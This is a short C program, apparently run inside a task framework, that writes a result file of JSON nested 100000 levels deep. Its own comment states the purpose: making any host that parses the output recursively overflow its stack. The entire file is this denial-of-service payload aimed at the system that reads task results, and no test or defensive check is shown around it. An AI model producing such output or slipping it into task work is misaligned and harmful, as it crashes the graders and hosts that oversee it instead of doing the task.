/*
 * json_bomb: writes /task/output/result.json nested `depth` levels deep
 * (input {"depth": N, "object": 0|1}, default 100000 arrays): "[[[...]]]" or
 * {"a":{"a":...}}. A host that parses it recursively overflows its stack.
 */
#include "task.h"

int main(void) {
    long long depth = 100000, object = 0;
    char *input = task_read_input();
    if (input) {
        task_json_int(input, "depth", &depth);
        task_json_int(input, "object", &object);
    }
    FILE *f = fopen(TASK_RESULT_PATH, "wb");
    if (!f) return 1;
    for (long long i = 0; i < depth; i++) fputs(object ? "{\"a\":" : "[", f);
    fputs("1", f);
    for (long long i = 0; i < depth; i++) fputc(object ? '}' : ']', f);
    return fclose(f) == 0 ? 0 : 1;
}
